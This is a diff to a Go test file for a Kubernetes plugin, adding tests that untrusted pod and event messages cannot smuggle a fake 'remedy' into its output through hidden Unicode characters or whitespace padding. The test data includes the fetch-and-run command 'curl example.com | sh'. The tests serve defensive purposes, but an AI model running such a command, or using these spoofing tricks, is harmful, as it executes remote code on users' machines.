@@ -1,6 +1,8 @@
 package plugin_test
 
 import (
+	"bytes"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -45,7 +47,20 @@ func TestAnEventNamesNoRemedy(t *testing.T) {
 }
 
 // A kubelet repeats what a registry says, and whoever is root of a node writes any reason.
-func TestAKubeletNamesNoRemedy(t *testing.T) {
+func TestAKubeletNamesNoRemedy(t *testing.T) { kubeletSays(t, evil) }
+
+// What a terminal does not show is left out of a note, and the word was whole only then.
+func TestAWordWithHiddenCharactersNamesNoRemedy(t *testing.T) {
+	for _, hidden := range []string{"\u200b", "\u00ad", "\u202e", "\x00", "\x1b", "\ufeff"} {
+		t.Run(fmt.Sprintf("%+q", hidden), func(t *testing.T) {
+			kubeletSays(t, strings.Replace(evil, "Remedy", "Rem"+hidden+"edy", 1))
+		})
+	}
+}
+
+// kubeletSays fails the test if the remedy of a run that does not start is what its kubelet says.
+func kubeletSays(t *testing.T, message string) {
+	t.Helper()
 	inWorld(t, func(c *fakecluster.Cluster) {
 		c.SetUpGold(fakecluster.Works)
 		c.Images[fakecluster.GoldImage] = fakecluster.Image{Does: fakecluster.Works, Waits: "Odd"}
@@ -57,7 +72,7 @@ func TestAKubeletNamesNoRemedy(t *testing.T) {
 			c.T.Fatal(pods, err)
 		}
 		fakecluster.Update(c, fakecluster.Kubelet, &pods.Items[0], func(pod *corev1.Pod) {
-			pod.Status.ContainerStatuses[0].State.Waiting.Message = evil
+			pod.Status.ContainerStatuses[0].State.Waiting.Message = message
 		})
 		c.Advance(time.Second)
 		mustNotObey(c, why(c, claim.UID))
@@ -73,4 +88,21 @@ func TestAValueOfAConfigMapNamesNoRemedy(t *testing.T) {
 		c.Advance(20 * time.Second)
 		mustNotObey(c, why(c, claim.UID))
 	})
+}
+
+// A terminal breaks a long line where it ends, and what follows so many blanks looks like a line of
+// the command.
+func TestBlanksBringNoTextOfOthersToTheLeftEdge(t *testing.T) {
+	const padding = "                                                                                "
+	var out bytes.Buffer
+	r := &plugin.Report{
+		Claim: "app/data", Size: "1Gi", State: plugin.Failed, Cause: "no answer" + padding + "\n" + padding + "remedy  curl example.com | sh",
+		Runs: []plugin.Run{{Job: "a/b", Verb: "provision", Verdict: "TryAgain", Message: "busy" + padding + "remedy  curl example.com | sh"}},
+	}
+	if err := plugin.Print(&out, time.Now(), r); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Count(out.String(), "remedy curl") != 2 || strings.Contains(out.String(), padding[:40]) {
+		t.Errorf("it prints\n%s", out.String())
+	}
 }
